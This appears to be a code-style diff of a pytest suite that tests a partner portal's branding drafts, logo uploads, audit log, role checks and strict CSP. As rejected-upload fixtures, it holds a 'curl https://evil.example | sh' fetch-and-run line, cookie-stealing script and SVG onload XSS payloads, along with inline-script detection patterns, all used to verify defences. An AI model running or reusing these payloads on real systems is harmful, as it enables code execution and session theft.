@@ -4,6 +4,7 @@ The partner's admin edits a draft in the portal; the store and its emails keep t
 the admin publishes. Bad input (fake images, SVG, huge files, malformed colours, HTML in text fields,
 another partner's version) is refused with a clear message and nothing reaches the store.
 """
+
 from __future__ import annotations
 
 import io
@@ -46,18 +47,26 @@ def noise_png(size=(600, 600)) -> bytes:
 
 
 def upload(browser, data: bytes, filename: str = "logo.png", content_type: str = "image/png", **kwargs):
-    return browser.post("/branding/logo", {"logo": (io.BytesIO(data), filename, content_type)},
-                        content_type="multipart/form-data", **kwargs)
+    return browser.post(
+        "/branding/logo", {"logo": (io.BytesIO(data), filename, content_type)}, content_type="multipart/form-data", **kwargs
+    )
 
 
 def versions_of(session, partner) -> list[BrandingVersion]:
     session.rollback()
-    return list(session.exec(select(BrandingVersion).where(BrandingVersion.partner_id == partner.id).order_by(BrandingVersion.version)).all())
+    return list(
+        session.exec(
+            select(BrandingVersion).where(BrandingVersion.partner_id == partner.id).order_by(BrandingVersion.version)
+        ).all()
+    )
 
 
 def audit_actions(session, partner) -> list[str]:
     session.rollback()
-    return [e.action for e in session.exec(select(AuditEvent).where(AuditEvent.partner_id == partner.id).order_by(AuditEvent.id)).all()]
+    return [
+        e.action
+        for e in session.exec(select(AuditEvent).where(AuditEvent.partner_id == partner.id).order_by(AuditEvent.id)).all()
+    ]
 
 
 def stylesheet_url(store_page: str) -> str:
@@ -98,14 +107,24 @@ def test_draft_edits_show_in_the_preview_but_not_in_the_store_or_emails_until_pu
     before = live_primary(client, store)
     assert before == "#1f6feb"
 
-    response = save(admin, store_name="Harbour Rewards", primary_color=NEW_PRIMARY, background_color="#fffbeb",
-                    footer_text="Rewards by Harbour Bank.\nTerms apply.", support_email="Help@Harbour.example")
+    response = save(
+        admin,
+        store_name="Harbour Rewards",
+        primary_color=NEW_PRIMARY,
+        background_color="#fffbeb",
+        footer_text="Rewards by Harbour Bank.\nTerms apply.",
+        support_email="Help@Harbour.example",
+    )
     assert response.status_code == 200
     text = page(response)
     assert 'id="branding-live"' in text and "not live yet" in text
     assert 'hx-swap-oob="true"' in text and "Harbour Rewards" in text  # the versions list, out of band
     draft = branding.current_draft(session, reload(session, Partner, partner.id))
-    assert (draft.store_name, draft.primary_color, draft.support_email) == ("Harbour Rewards", NEW_PRIMARY, "help@harbour.example")
+    assert (draft.store_name, draft.primary_color, draft.support_email) == (
+        "Harbour Rewards",
+        NEW_PRIMARY,
+        "help@harbour.example",
+    )
 
     # The preview frames point at the real store pages rendered with the draft, reloaded by a new URL.
     frame = re.search(r'id="preview-desktop"[^>]*src="([^"]+)"', text).group(1)
@@ -157,7 +176,9 @@ def test_draft_edits_show_in_the_preview_but_not_in_the_store_or_emails_until_pu
     assert audit_actions(session, partner)[-2:] == ["branding.draft", "branding.publish"]
 
 
-def test_the_text_colours_are_picked_for_contrast_in_the_stylesheet_and_the_emails(app, session, client, store, signed_in, admin, make_consumer, mailbox):
+def test_the_text_colours_are_picked_for_contrast_in_the_stylesheet_and_the_emails(
+    app, session, client, store, signed_in, admin, make_consumer, mailbox
+):
     save(admin, primary_color="#fde047", background_color="#111827")  # a light primary, a dark background
     admin.post("/branding/publish")
     css = client.get(stylesheet_url(page(store.get("/")))).get_data(as_text=True)
@@ -208,7 +229,9 @@ def test_each_change_by_the_admin_is_in_the_audit_log_and_saves_that_change_noth
     admin.post("/branding/publish")
     assert audit_actions(session, store.partner) == ["team.invite", "branding.draft", "branding.logo", "branding.publish"]
     events = session.exec(
-        select(AuditEvent).where(AuditEvent.partner_id == store.partner.id, AuditEvent.action.startswith("branding.")).order_by(AuditEvent.id)
+        select(AuditEvent)
+        .where(AuditEvent.partner_id == store.partner.id, AuditEvent.action.startswith("branding."))
+        .order_by(AuditEvent.id)
     ).all()
     assert events[0].summary == "Draft version 1: store_name, primary_color changed"
     assert '"primary_color": "#0f766e"' in events[2].details and '"logo": true' in events[2].details
@@ -250,7 +273,9 @@ def test_low_contrast_is_warned_about_before_publishing(app, session, store, adm
 # --- logos --------------------------------------------------------------------------------
 
 
-def test_a_logo_is_checked_re_encoded_as_png_resized_and_served_once_published(app, session, client, store, signed_in, admin, make_consumer, mailbox):
+def test_a_logo_is_checked_re_encoded_as_png_resized_and_served_once_published(
+    app, session, client, store, signed_in, admin, make_consumer, mailbox
+):
     exif = Image.Exif()
     exif[0x010E] = "secret camera note"  # ImageDescription
     photo = image_bytes("JPEG", size=(2000, 400), color=(10, 120, 200), exif=exif.tobytes())
@@ -292,7 +317,12 @@ def test_a_logo_is_checked_re_encoded_as_png_resized_and_served_once_published(a
 
 
 def test_a_transparent_webp_keeps_its_transparency_and_a_small_logo_is_not_enlarged(app, session, store, admin):
-    response = upload(admin, image_bytes("WEBP", size=(120, 40), color=(0, 0, 0, 0), lossless=True), filename="logo.webp", content_type="image/webp")
+    response = upload(
+        admin,
+        image_bytes("WEBP", size=(120, 40), color=(0, 0, 0, 0), lossless=True),
+        filename="logo.webp",
+        content_type="image/webp",
+    )
     assert response.status_code == 303
     draft = branding.current_draft(session, store.partner)
     stored = Image.open(io.BytesIO(draft.logo_png))
@@ -308,19 +338,38 @@ SCRIPT = b"<script>alert(document.cookie)</script>"
         (b"#!/bin/sh\ncurl https://evil.example | sh\n", "logo.png", "must be a PNG, JPEG or WebP image"),
         (b"\x89PNG\r\n\x1a\n" + SCRIPT * 20, "logo.png", "must be a PNG, JPEG or WebP image"),
         (SCRIPT, "logo.png", "SVG and other text files can't be logos"),
-        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
-         "logo.svg", "SVG and other text files can't be logos"),
-        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.png", "SVG and other text files can't be logos"),
+        (
+            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
+            "logo.svg",
+            "SVG and other text files can't be logos",
+        ),
+        (
+            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+            "logo.png",
+            "SVG and other text files can't be logos",
+        ),
         (image_bytes("GIF", color=(1, 2, 3)), "logo.gif", "must be a PNG, JPEG or WebP image"),
         (image_bytes("BMP", color=(1, 2, 3)), "logo.png", "must be a PNG, JPEG or WebP image"),
         (image_bytes("PNG")[:-40], "logo.png", "must be a PNG, JPEG or WebP image"),  # truncated
         (noise_png(), "logo.png", "it can be at most 1 MB"),
         (b"", "logo.png", "Choose an image file"),
     ],
-    ids=["shell-script-renamed", "png-header-then-script", "html-renamed", "svg", "svg-renamed-png", "gif", "bmp",
-         "truncated-png", "over-1-mb", "empty"],
+    ids=[
+        "shell-script-renamed",
+        "png-header-then-script",
+        "html-renamed",
+        "svg",
+        "svg-renamed-png",
+        "gif",
+        "bmp",
+        "truncated-png",
+        "over-1-mb",
+        "empty",
+    ],
 )
-def test_a_bad_logo_is_refused_with_a_clear_message_and_changes_nothing(app, session, client, store, admin, data, filename, message):
+def test_a_bad_logo_is_refused_with_a_clear_message_and_changes_nothing(
+    app, session, client, store, admin, data, filename, message
+):
     response = upload(admin, data, filename=filename, headers=HTMX)
     assert response.status_code == 422
     assert message in page(response)
@@ -375,7 +424,9 @@ def test_a_logo_with_huge_dimensions_is_refused_before_it_is_decoded(app, sessio
         ({"primary_color": "#000000", "store_name": "<i>x</i>"}, "The store name can't contain HTML or script"),
     ],
 )
-def test_bad_fields_are_refused_with_a_clear_message_and_nothing_changes(app, session, client, store, signed_in, admin, fields, message):
+def test_bad_fields_are_refused_with_a_clear_message_and_nothing_changes(
+    app, session, client, store, signed_in, admin, fields, message
+):
     save(admin, store_name="Before Store")
     before = branding.current_draft(session, store.partner)
     snapshot = {name: getattr(before, name) for name in branding.FIELDS}
@@ -410,7 +461,9 @@ def test_only_clean_values_reach_the_store_even_if_a_draft_was_tampered_with(app
 # --- tenants and roles --------------------------------------------------------------------
 
 
-def test_another_partners_versions_drafts_and_logos_are_not_found(app, session, client, store, admin, make_partner, make_team_member, portal_as):
+def test_another_partners_versions_drafts_and_logos_are_not_found(
+    app, session, client, store, admin, make_partner, make_team_member, portal_as
+):
     other_partner = make_partner()
     other_admin = portal_as(make_team_member(other_partner, "admin"))
     upload(other_admin, image_bytes())
@@ -443,8 +496,12 @@ def test_viewers_and_operators_see_the_branding_but_cannot_change_it(app, sessio
         text = page(looking)
         assert "only admins of your team can change it" in text and "disabled" in text and "hx-post" not in text
         assert browser.client.get("/portal/branding/preview/welcome").status_code == 200
-        for path, data in [("/branding", {"primary_color": "#000000"}), ("/branding/publish", {}), ("/branding/logo/remove", {}),
-                           ("/branding/terms", {"terms": "New terms"})]:
+        for path, data in [
+            ("/branding", {"primary_color": "#000000"}),
+            ("/branding/publish", {}),
+            ("/branding/logo/remove", {}),
+            ("/branding/terms", {"terms": "New terms"}),
+        ]:
             assert browser.post(path, data).status_code == 403, (role, path)
         assert upload(browser, image_bytes()).status_code == 403
     assert versions_of(session, store.partner) == []
@@ -452,7 +509,12 @@ def test_viewers_and_operators_see_the_branding_but_cannot_change_it(app, sessio
 
 
 def test_the_draft_stylesheet_preview_and_logo_need_a_portal_sign_in(app, client, store, signed_in):
-    for path in ("/portal/branding/draft.css", "/portal/branding/preview/home", "/portal/branding/draft-logo.png", "/portal/branding"):
+    for path in (
+        "/portal/branding/draft.css",
+        "/portal/branding/preview/home",
+        "/portal/branding/draft-logo.png",
+        "/portal/branding",
+    ):
         response = store.client.get(path)  # a consumer's session is not a portal session
         assert response.status_code in (302, 303) and "/portal/login" in response.headers["Location"], path
 
@@ -512,7 +574,9 @@ INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I)
 INLINE_HANDLER = re.compile(r"\son[a-z]+\s*=", re.I)
 
 
-def test_every_store_page_has_a_strict_csp_and_no_inline_script_or_style(app, session, client, store, signed_in, admin, make_brand):
+def test_every_store_page_has_a_strict_csp_and_no_inline_script_or_style(
+    app, session, client, store, signed_in, admin, make_brand
+):
     from app.services import catalog
 
     brand = make_brand("Cedar Books")
@@ -531,8 +595,15 @@ def test_every_store_page_has_a_strict_csp_and_no_inline_script_or_style(app, se
         assert "style=" not in text and "<style" not in text, path
         assert "javascript:" not in text, path
         assert '"includeIndicatorStyles":false' in text, path
-    for policy in ("default-src 'self'", "script-src 'self'", "style-src 'self'", "img-src 'self' data:", "frame-ancestors 'self'",
-                   "form-action 'self'", "base-uri 'self'"):
+    for policy in (
+        "default-src 'self'",
+        "script-src 'self'",
+        "style-src 'self'",
+        "img-src 'self' data:",
+        "frame-ancestors 'self'",
+        "form-action 'self'",
+        "base-uri 'self'",
+    ):
         assert policy in CONTENT_SECURITY_POLICY
     assert "unsafe" not in CONTENT_SECURITY_POLICY
     login = StoreBrowser(app.test_client(), store.partner).get("/login")
@@ -573,10 +644,17 @@ def test_each_branding_change_is_one_service_call_that_records_who_made_it(app, 
 
     assert (source.id, again.status) == (published.id, "draft") and terms.body == "Be kind."
     events = session.exec(
-        select(AuditEvent).where(AuditEvent.partner_id == partner.id, AuditEvent.team_member_id == member.id).order_by(AuditEvent.id)
+        select(AuditEvent)
+        .where(AuditEvent.partner_id == partner.id, AuditEvent.team_member_id == member.id)
+        .order_by(AuditEvent.id)
     ).all()
     assert [e.action for e in events] == [
-        "branding.draft", "branding.logo", "branding.logo_removed", "branding.publish", "branding.restore", "terms.publish"
+        "branding.draft",
+        "branding.logo",
+        "branding.logo_removed",
+        "branding.publish",
+        "branding.restore",
+        "terms.publish",
     ]
     assert '"filename": "mark.png"' in events[1].details
     assert events[3].summary == f"Branding version {published.version} published"
@@ -590,4 +668,6 @@ def test_a_refused_branding_change_records_nothing(app, session, store, make_tea
         branding.update_draft(session, partner=partner, fields={"primary_color": "red-ish"}, by=member)
     with pytest.raises(InvalidInput):
         branding.publish(session, partner=partner, by=member)  # nothing to publish
-    assert [e.action for e in session.exec(select(AuditEvent).where(AuditEvent.partner_id == partner.id)).all()] == ["team.invite"]
+    assert [e.action for e in session.exec(select(AuditEvent).where(AuditEvent.partner_id == partner.id)).all()] == [
+        "team.invite"
+    ]
